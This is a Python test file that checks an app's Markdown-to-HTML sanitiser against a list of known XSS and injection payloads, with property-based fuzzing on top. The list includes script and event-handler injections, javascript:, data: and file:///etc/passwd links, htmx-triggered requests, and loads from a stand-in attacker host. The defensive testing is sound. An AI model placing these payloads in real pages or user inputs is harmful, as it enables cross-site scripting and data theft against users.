"""Nothing that people type can act, whatever is made of it (ASVS 1.3.1)."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html

from app.markup import plain
from app.markup.html import DIRECTED, safe, to_html

ALLOWED = {tag: {"dir"} for tag in DIRECTED} | {"a": {"href", "rel", "target"}, "li": {"dir", "value"}}
SCHEMES = {"http", "https", "mailto", "tel"}

# Known attacks: the OWASP filter evasion sheet, PortSwigger's cheat sheet, Markdown renderers' own past holes.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<form action=/logout method=post><button>Click</button></form>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='#' hx-post='/logout' hx-trigger='load'>x</a>",
    "<div hx-get='/me' data-hx-get='/me' hx-on:click='alert(1)' hx-trigger='load'>x</div>",
    "<div hx-ws:connect='//evil.example' ws-connect='//evil.example' sse-connect='//evil.example'>x</div>",
    "<hx-partial hx-target='body'>x</hx-partial>",
    "<template id=live><p>x</p></template>",
    "<p id='live' class='note' data-state='connected' name='cookie'>x</p>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](sms:+1900) [x](irc://evil.example) [x](market://x)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '[x](https://a.example/ "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/'><script>alert(1)</script>)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x](https://a.example/x.png "a<b")',
    '[x](https://a.example "<img src=x onerror=alert(1)>")',
    "`<script>alert(1)</script>`",
    "```html\" onload=alert(1)\n<script>alert(1)</script>\n```",
    "```\"><script>\n</code></pre><script>alert(1)</script>\n```",
    "https://a.example/<script>alert(1)</script>",
    "www.a.example\"onclick=\"alert(1)",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><x y='z'>",
    "|a|b|\n|-|:-:|\n|<img src=x onerror=alert(1)>|[x](javascript:1)|",
    "# x {#live .note onclick=alert(1)}",
    "\x00<script>alert(1)</script>",
    "\u2028<svg onload=alert(1)>\ufeff",
]  # fmt: skip
words = st.sampled_from(
    [
        *ATTACKS,
        *("<", ">", '"', "'", "`", "```", "](", "[", "![", ")", "&", ";", "\n", "\n\n", " ", "\t", "*", "|", "-", "#"),
        *("javascript:", "data:", "https://", "onerror=", "style=", "hx-get=", "id=", "x", "ж", "\\", "1.", "&#x3c;"),
    ]
)  # fmt: skip
typed = st.one_of(
    st.lists(words, max_size=12).map("".join), st.text(st.characters(exclude_categories=["Cs"]), max_size=60)
)


def is_harmless(shown: str) -> None:
    """Nothing but the listed elements with the listed attributes, whose values no browser could misread."""
    for element in html.fragment_fromstring(shown.replace("\x00", ""), create_parent="main").iter():
        assert isinstance(element.tag, str), f"a comment or an instruction in {shown!r}"
        if element.tag == "main":
            continue
        assert element.tag not in ("script", "style", "img", "iframe", "svg", "form", "input", "template", "base")
        assert set(element.attrib) <= ALLOWED.get(element.tag, set()), shown
        assert element.get("dir", "auto") == "auto" and element.get("value", "0").isdecimal()
        if element.tag == "a" and "href" in element.attrib:
            address = re.sub(r"[\x00-\x20]", "", element.attrib["href"])  # which browsers pass over
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", address.lower())
            assert scheme is None or scheme[1] in SCHEMES, shown
            assert element.attrib["rel"] == "noopener noreferrer nofollow" and element.attrib["target"] == "_blank"
    for tag in re.findall(r"<[a-z][^>]*>", shown):
        for value in re.findall(r'="([^"]*)"', tag):
            assert "<" not in value, shown


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_known_attack_is_only_text(attack):
    for text in (attack, f"Hello\n\n> {attack}", f"- {attack}\n  {attack}", f"**{attack}**"):
        is_harmless(to_html(text))
        is_harmless(plain(text))
        assert safe(to_html(text)) == to_html(text)


@given(text=typed)
def test_whatever_is_typed_is_harmless(text):
    is_harmless(to_html(text))
    is_harmless(plain(text))
    assert safe(to_html(text)) == to_html(text)
